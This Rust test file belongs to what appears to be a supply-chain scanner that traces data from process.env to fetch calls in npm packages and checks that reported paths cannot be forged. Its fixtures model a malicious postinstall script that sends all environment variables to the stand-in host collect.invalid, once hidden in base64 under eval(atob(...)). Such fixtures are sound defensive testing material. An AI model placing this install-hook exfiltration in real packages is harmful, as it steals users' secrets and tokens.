use super::*;
use crate::inspect_tree;
use crate::unpack::text_file;
use customs_model::Decoding;

fn tree(files: &[(&str, &str)]) -> Tree {
    Tree {
        entries: files
            .iter()
            .map(|(path, text)| text_file(&format!("package/{path}"), text))
            .collect(),
        ..Tree::default()
    }
}

const MANIFEST: (&str, &str) = (
    "package.json",
    r#"{"scripts": {"postinstall": "node setup.js"}}"#,
);

/// A thief in one file, with a function on the way.
fn thief() -> Tree {
    tree(&[
        MANIFEST,
        (
            "setup.js",
            "const all = process.env;\nfunction send(body) {\n  fetch('https://collect.invalid/v1', {\n    method: 'POST',\n    body,\n  });\n}\nsend(JSON.stringify(all));\n",
        ),
    ])
}

/// The first path that leads to the network, with what shows it.
fn path(tree: &Tree) -> Vec<Hop> {
    let found = inspect_tree(tree);
    let flow = found
        .flows
        .iter()
        .find(|flow| flow.sink_name == "fetch")
        .unwrap();
    let mut path = flow.path.clone();
    certify(&mut path, tree);
    path
}

fn broken(path: &[Hop], tree: &Tree) -> Broken {
    check(path, tree).unwrap_err().broken
}

#[test]
fn a_path_is_shown_from_source_to_sink_and_checked_without_the_engine() {
    let tree = thief();
    let path = path(&tree);
    assert!(path.len() > 2, "{path:?}");
    let checked = check(&path, &tree).unwrap();
    assert!(checked.unshown.is_empty(), "{checked:?}");
    assert_eq!(checked.shown, path.len());
    let first = path[0].shown.as_ref().unwrap();
    assert_eq!(first.text, "process.env");
    assert_eq!(first.word.as_deref(), Some("env"));
}

#[test]
fn a_path_goes_over_files_where_one_names_the_other() {
    let tree = tree(&[
        MANIFEST,
        (
            "setup.js",
            "const all = require('./lib/all');\nfetch('https://collect.invalid', { body: JSON.stringify(all) });\n",
        ),
        ("lib/all.js", "module.exports = process.env;\n"),
    ]);
    let path = path(&tree);
    let checked = check(&path, &tree).unwrap();
    assert!(checked.unshown.is_empty(), "{checked:?}");
    let joins: Vec<&Join> = path
        .iter()
        .filter_map(|hop| hop.shown.as_ref())
        .map(|shown| &shown.join)
        .collect();
    assert!(
        joins.iter().any(|join| matches!(join, Join::Files { .. })),
        "{joins:?}"
    );
}

#[test]
fn a_hidden_step_shows_where_its_text_is_written() {
    // fetch("https://collect.invalid/", {body: JSON.stringify(process.env)})
    let tree = tree(&[
        MANIFEST,
        (
            "setup.js",
            "eval(atob('ZmV0Y2goImh0dHBzOi8vY29sbGVjdC5pbnZhbGlkLyIsIHtib2R5OiBKU09OLnN0cmluZ2lmeShwcm9jZXNzLmVudil9KQ=='));\n",
        ),
    ]);
    let path = path(&tree);
    let first = path[0].shown.as_ref().unwrap();
    assert_eq!(path[0].hidden.as_deref(), Some("process.env"));
    let written = first.written.as_ref().unwrap();
    assert_eq!(written.by, [Decoding::Base64]);
    assert!(check(&path, &tree).is_ok());
    let mut forged = path;
    forged[0].hidden = Some("process.cwd".to_owned());
    assert_eq!(broken(&forged, &tree), Broken::Word);
}

#[test]
fn a_moved_place_is_refused() {
    let tree = thief();
    for (number, hop) in path(&tree).iter().enumerate() {
        let mut moved = path(&tree);
        moved[number].at.bytes = (hop.at.bytes.0 + 1, hop.at.bytes.1 + 1);
        assert_eq!(broken(&moved, &tree), Broken::Place, "{number}");
        moved[number].at.column += 1;
        assert_eq!(broken(&moved, &tree), Broken::Text, "{number}");
    }
}

#[test]
fn another_file_and_other_bytes_are_refused() {
    let tree = thief();
    let mut other = path(&tree);
    other[0].at.file = "package/package.json".to_owned();
    assert_eq!(broken(&other, &tree), Broken::File);
    other[0].at.file = "package/none.js".to_owned();
    assert_eq!(broken(&other, &tree), Broken::File);
    let later = self::tree(&[MANIFEST, ("setup.js", "const all = process.env;\n")]);
    assert_eq!(broken(&path(&tree), &later), Broken::File);
}

#[test]
fn another_text_or_word_is_refused() {
    let tree = thief();
    let mut other = path(&tree);
    other[0].shown.as_mut().unwrap().text = "process.cwd".to_owned();
    assert_eq!(broken(&other, &tree), Broken::Text);
    let mut other = path(&tree);
    other[0].shown.as_mut().unwrap().word = Some("process2".to_owned());
    assert_eq!(broken(&other, &tree), Broken::Word);
    let mut other = path(&tree);
    other[0].edge = Edge::Read {
        name: "os.hostname".to_owned(),
    };
    assert_eq!(broken(&other, &tree), Broken::Word);
}

#[test]
fn steps_that_change_places_are_refused() {
    let tree = thief();
    let count = path(&tree).len();
    for first in 0..count {
        for second in first + 1..count {
            let mut swapped = path(&tree);
            swapped.swap(first, second);
            assert!(check(&swapped, &tree).is_err(), "{first} and {second}");
        }
    }
}

#[test]
fn a_step_that_is_left_out_or_not_shown_is_never_counted() {
    let tree = thief();
    let mut bare = path(&tree);
    for hop in &mut bare {
        hop.shown = None;
    }
    let checked = check(&bare, &tree).unwrap();
    assert_eq!((checked.shown, checked.unshown.len()), (0, bare.len()));
    let mut headless = path(&tree);
    headless.remove(0);
    assert_eq!(broken(&headless, &tree), Broken::Order);
}

#[test]
fn names_that_are_not_there_tie_nothing_together() {
    let text = "const a = process.env;\nconst b = 1;\nsend(b);\n";
    let tree = tree(&[("x.js", text)]);
    let place = |piece: &str| {
        let from = text.find(piece).unwrap() as u32;
        let (line, column) = crate::text::line_and_column(text.as_bytes(), from);
        Place {
            file: "package/x.js".to_owned(),
            line,
            column,
            bytes: (from, from + piece.len() as u32),
        }
    };
    let mut path = vec![
        Hop::told("a".to_owned(), place("process.env")),
        Hop::told("b".to_owned(), place("send(b)")),
    ];
    certify(&mut path, &tree);
    let join = |path: &[Hop]| path[1].shown.as_ref().unwrap().join.clone();
    assert!(matches!(join(&path), Join::Unshown { .. }));
    assert_eq!(check(&path, &tree).unwrap().unshown.len(), 1);
    for chain in [
        vec![],
        vec![Link::Name {
            name: "a".to_owned(),
            from: 6,
            to: text.find("send(b)").unwrap() as u32 + 5,
        }],
        vec![Link::Name {
            name: "const".to_owned(),
            from: 0,
            to: 23,
        }],
        vec![Link::Nested { from: 0, to: 36 }],
    ] {
        path[1].shown.as_mut().unwrap().join = Join::Names { chain };
        assert_eq!(broken(&path, &tree), Broken::Join);
    }
}
